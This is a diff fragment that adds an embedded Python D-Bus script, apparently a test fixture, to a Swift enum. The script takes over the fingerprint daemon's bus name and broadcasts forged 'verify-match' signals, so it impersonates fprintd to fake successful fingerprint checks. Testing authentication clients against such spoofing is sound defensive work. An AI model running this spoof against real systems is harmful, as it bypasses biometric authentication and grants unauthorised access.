@@ -18,6 +18,25 @@ enum BusStranger {
     bus.flush()
     print('sent to', len(names), flush=True)
     """
+
+  /// Waits in line for fprintd's name; once it owns it, it claims that every finger matches.
+  static let impostor = """
+    import dbus, dbus.bus, dbus.lowlevel, sys, time
+    bus = dbus.bus.BusConnection(sys.argv[1])
+    owned = bus.request_name('net.reactivated.Fprint')
+    print('waits' if owned == 2 else 'owns', flush=True)
+    while bus.get_name_owner('net.reactivated.Fprint') != bus.get_unique_name():
+        time.sleep(0.001)
+    for _ in range(200):
+        message = dbus.lowlevel.SignalMessage(
+            sys.argv[2], 'net.reactivated.Fprint.Device', 'VerifyStatus')
+        message.append('verify-match', True, signature='sb')
+        bus.send_message(message)
+        bus.flush()
+        time.sleep(0.005)
+    print('told', flush=True)
+    time.sleep(60)
+    """
 }
 
 extension PrivateHost {
